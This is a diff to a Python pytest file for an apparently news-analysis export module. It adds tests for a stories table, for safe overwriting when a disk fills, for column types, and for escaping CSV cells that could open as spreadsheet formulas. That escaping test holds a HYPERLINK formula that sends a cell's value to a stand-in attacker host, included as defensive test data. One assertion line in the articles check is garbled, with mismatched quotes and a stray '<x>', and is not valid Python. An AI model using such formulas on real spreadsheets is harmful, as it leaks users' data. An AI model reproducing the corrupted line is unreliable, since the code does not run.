@@ -49,9 +49,20 @@ def test_json_never_writes_nan(analysis: Analysis, tmp_path: Path):
 @pytest.mark.parametrize("ext", ["parquet", "csv"])
 def test_tables_round_trip(analysis: Analysis, tmp_path: Path, ext: str):
     written = export(analysis, tmp_path / f"run.{ext}")
-    assert written == [tmp_path / f"run.{name}.{ext}" for name in ("articles", "claims", "quotes")]
+    assert written == [tmp_path / f"run.{name}.{ext}" for name in ("stories", "articles", "claims", "quotes")]
     read = pd.read_parquet if ext == "parquet" else pd.read_csv
-    articles, claims, quotes = (read(p) for p in written)
+    stories, articles, claims, quotes = (read(p) for p in written)
+
+    # one row per story, joinable to the other tables by its id
+    assert list(stories["story"]) == [s.id for s in analysis.stories]
+    s1 = stories.set_index("story").loc["s1"]
+    assert s1["articles"] == 3 and s1["independent_articles"] == 2 and s1["outlets"] == 2
+    assert s1["disputed"] == len(analysis.reports["s1"].disputed) >= 1
+    assert s1["summary"] == analysis.reports["s1"].summary
+    assert set(claims["story"]) <= set(stories["story"]) and set(quotes["story"]) <= set(stories["story"])
+    # the claims a disputed number lists are flagged where they are
+    flagged = {(c.article, c.start) for d in analysis.reports["s1"].disputed for c in d.claims}
+    assert {(r.article, r.start) for r in claims.itertuples() if r.disputed} == flagged
 
     assert list(articles["id"]) == ["a1", "a2", "a3", "a4"]
     assert list(articles["story"]) == ["s1", "s1", "s1", 's2"<x>']
@@ -103,19 +114,21 @@ def test_missing_folder_is_a_clear_error(analysis: Analysis, tmp_path: Path):
 
 
 def test_failed_export_leaves_old_files_whole(analysis: Analysis, tmp_path: Path, monkeypatch):
-    old = {tmp_path / f"run.{n}.parquet": b"old " + n.encode() for n in ("articles", "claims", "quotes")}
+    import pyarrow.parquet as pq
+
+    old = {tmp_path / f"run.{n}.parquet": b"old " + n.encode() for n in ("stories", "articles", "claims", "quotes")}
     for p, data in old.items():
         p.write_bytes(data)
     calls = {"n": 0}
-    real = pd.DataFrame.to_parquet
+    real = pq.write_table
 
-    def flaky(self, path, *a, **kw):
+    def flaky(table, path, *a, **kw):
         calls["n"] += 1
         if calls["n"] == 2:
             raise OSError(28, "No space left on device", str(path))
-        return real(self, path, *a, **kw)
+        return real(table, path, *a, **kw)
 
-    monkeypatch.setattr(pd.DataFrame, "to_parquet", flaky)
+    monkeypatch.setattr(pq, "write_table", flaky)
     with pytest.raises(ConfigError, match="No space left"):
         export(analysis, tmp_path / "run.parquet")
     for p, data in old.items():
@@ -136,13 +149,15 @@ def test_csv_cells_never_open_as_spreadsheet_formulas(analysis: Analysis, tmp_pa
     from dataclasses import replace
 
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    analysis.articles[3] = replace(analysis.articles[3], title=formula, outlet="@SUM(1,1)", byline="-2+3")
-    csv_articles = pd.read_csv(export(analysis, tmp_path / "f.csv")[0])
+    analysis.articles[3] = replace(analysis.articles[3], title=formula, outlet="@SUM(1,1)", byline="-2+3",
+                                   external_id="-17")
+    csv_articles = pd.read_csv(export(analysis, tmp_path / "f.csv")[1], dtype={"external_id": str})
     row = csv_articles[csv_articles["id"] == "a4"].iloc[0]
     assert (row["title"], row["outlet"], row["byline"]) == ("'" + formula, "'@SUM(1,1)", "'-2+3")
+    assert row["external_id"] == "-17"  # a plain number is no formula: it joins back to the user's data
     assert csv_articles.loc[0, "title"] == analysis.articles[0].title  # other text as it was
     # Parquet keeps the values as they are: no spreadsheet opens it as formulas
-    parquet = pd.read_parquet(export(analysis, tmp_path / "f.parquet")[0])
+    parquet = pd.read_parquet(export(analysis, tmp_path / "f.parquet")[1])
     assert parquet[parquet["id"] == "a4"].iloc[0]["title"] == formula
 
 
@@ -164,3 +179,20 @@ def test_a_link_stays_a_link_and_a_pipe_stays_a_pipe(analysis: Analysis, tmp_pat
     export(analysis, fifo)
     reader.join(10)
     assert stat.S_ISFIFO(os.stat(fifo).st_mode) and json.loads(got[0])["articles"]
+
+
+def test_a_column_without_values_keeps_its_type_so_runs_concatenate(analysis: Analysis, tmp_path: Path):
+    """A run with no wire copy writes duplicate_of as text, as a run with one does."""
+    import pyarrow.parquet as pq
+    from dataclasses import replace
+
+    with_copy = export(analysis, tmp_path / "a.parquet")
+    analysis.articles = [replace(a, duplicate_of=None) for a in analysis.articles]
+    analysis.annotations = {k: replace(v, claims=()) for k, v in analysis.annotations.items()}
+    without = export(analysis, tmp_path / "b.parquet")
+    for table in (1, 2):  # articles, then claims (none at all in the second run)
+        one, two = pq.read_schema(with_copy[table]), pq.read_schema(without[table])
+        assert [(f.name, str(f.type)) for f in one] == [(f.name, str(f.type)) for f in two]
+    assert "string" in str(pq.read_schema(without[1]).field("duplicate_of").type)
+    both = pd.concat([pd.read_parquet(with_copy[1]), pd.read_parquet(without[1])])
+    assert both["duplicate_of"].notna().sum() == 1
